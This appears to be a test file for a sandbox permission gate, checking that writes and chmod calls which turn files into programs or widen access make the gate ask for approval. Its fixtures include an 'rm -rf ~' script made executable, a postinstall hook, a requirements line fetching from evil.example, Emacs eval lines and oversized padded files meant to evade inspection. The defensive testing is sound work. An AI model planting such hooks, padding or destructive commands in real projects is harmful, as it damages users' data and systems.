import assert from "node:assert/strict";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { test } from "node:test";
import { paths } from "../../src/gate/paths.ts";
import { sampleFacts } from "../../src/gate/sample-action.ts";
import type { Effect } from "../../src/signal/effect.ts";
import { court } from "./trial-court.ts";

/** What is asked of the effects of a trial, by the name of each file. */
function asked(effects: readonly Effect[], workspace: string): ReadonlyMap<string, string> {
  const folders = { ...sampleFacts.folders, workspace };
  return new Map(
    effects.flatMap((effect) => {
      const answer = paths.answer(effect, { ...sampleFacts, folders }, 0);
      return answer.result === "ask" ? [[effect.target.slice(workspace.length + 1), answer.reason]] : [];
    }),
  );
}

test("a file that is too large to look into asks where its name, its first bytes, its mode or its ends make it a program", async (context) => {
  const made = await court(context);
  if (made === null) return;
  const { workspace, path, attempt } = made;
  writeFileSync(path("package.json"), '{"name":"a","scripts":{}}');
  const blanks = "' ' x 2_100_000";
  const files: Readonly<Record<string, string>> = {
    "package.json": `'{"name":"a","scripts":{"postinstall":"evil"}}', ${blanks}`,
    "package-lock.json": `'{}', ${blanks}`,
    "requirements.txt": `"x @ https://evil.example/x.zip\n", ${blanks}`,
    "pyproject.toml": `${blanks}, "\n[tool.x]\n"`,
    "notes.txt": `"#!/bin/sh\nevil\n", ${blanks}`,
    "tool.sh": `"evil\n", ${blanks}`,
    "list.txt": `${blanks}, "\nLocal Variables:\neval: (evil)\nEnd:\n"`,
    "first.txt": `"-*- eval: (evil) -*-\n", ${blanks}`,
    "data.csv": "'1,2,3' x 500_000",
    "data.bin": "join('', map { chr } 0..255) x 10_000",
  };
  const lines = Object.entries(files).map(
    ([name, text]) => `open F, '>', '${name}'; print F ${text}; close F;`,
  );
  const { kept } = await attempt(
    `perl -e '${`${lines.join(" ")} chmod 0755, "tool.sh"`.replaceAll("'", `'\\''`)}'`,
  );
  const named = asked(kept.effects, workspace);
  const wanted = Object.keys(files).filter((name) => !name.startsWith("data"));
  assert.deepEqual([...named.keys()].toSorted(), wanted.toSorted());
});

test("text that becomes a program asks, and a program that stays one does not", async (context) => {
  const made = await court(context);
  if (made === null) return;
  const { workspace, path, attempt } = made;
  for (const name of ["notes.txt", "plan.md", "old.txt"]) writeFileSync(path(name), "rm -rf ~\n");
  chmodSync(path("old.txt"), 0o755);
  const { kept } = await attempt(`sh -c 'chmod +x notes.txt; chmod u+x plan.md; chmod 700 old.txt'`);
  const named = asked(kept.effects, workspace);
  assert.deepEqual([...named.keys()].toSorted(), ["notes.txt", "plan.md"]);
  for (const reason of named.values()) assert.match(reason, /it becomes a program/);
});

test("a right that the group or others did not have asks and is shown, for a folder too", async (context) => {
  const made = await court(context);
  if (made === null) return;
  const { workspace, path, attempt } = made;
  for (const name of ["d", "e"]) mkdirSync(path(name));
  for (const name of ["a.txt", "b.txt", "d/c.txt"]) writeFileSync(path(name), "words\n");
  for (const name of ["d", "e"]) chmodSync(path(name), 0o755);
  for (const name of ["a.txt", "b.txt", "d/c.txt"]) chmodSync(path(name), 0o640);
  const { kept } = await attempt(
    `sh -c 'umask 022; chmod 777 . d; chmod 700 e; chmod 644 a.txt; chmod 600 b.txt; chmod o+w d/c.txt; echo more > new.txt'`,
  );
  const named = asked(kept.effects, workspace);
  assert.deepEqual([...named.keys()].toSorted(), ["", "a.txt", "d", "d/c.txt"]);
  assert.match(named.get("a.txt") ?? "", /other users .* \(640 → 644\)/);
  assert.match(named.get("d") ?? "", /\(755 → 777\)/);
});
